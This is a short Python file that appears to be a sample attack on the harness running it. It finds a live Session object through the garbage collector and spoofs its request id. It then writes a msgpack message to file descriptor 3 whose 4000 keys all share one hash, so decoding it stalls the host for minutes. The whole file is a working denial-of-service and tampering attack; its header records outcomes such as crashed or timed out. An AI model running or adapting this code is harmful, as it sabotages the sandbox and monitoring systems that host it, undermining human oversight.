"""Returns dicts whose keys all have one hash, to keep us busy for minutes. Keys are few, and whole
numbers among them small.
"""
# row: own
# layer: W D
# outcome: crashed, failed, timed out

import struct

msgpack = borrow("msgpack")
session = next(o for o in gc.get_objects() if type(o).__name__ == "Session")


def total(x):
    modulus = 2**61 - 1
    keys = [(i + 1) * modulus for i in range(4000)]
    one = b"\xde" + struct.pack(">H", len(keys)) + b"".join(
        msgpack.packb(msgpack.ExtType(3, k.to_bytes(10, "little"))) + b"\x01" for k in keys
    )
    count = (2**21 - 100) // len(one)
    head = b"\x96\x07" + msgpack.packb(session._request_id) + b"\xdc" + struct.pack(">H", count) + one * count + b"\x80\xa0\xd4\x00\x90"
    os.write(3, struct.pack("<IQ", len(head), 0))
    view = memoryview(head)
    while view:
        view = view[os.write(3, view):]
    time.sleep(5)


drop = lambda x, rng: total(x)
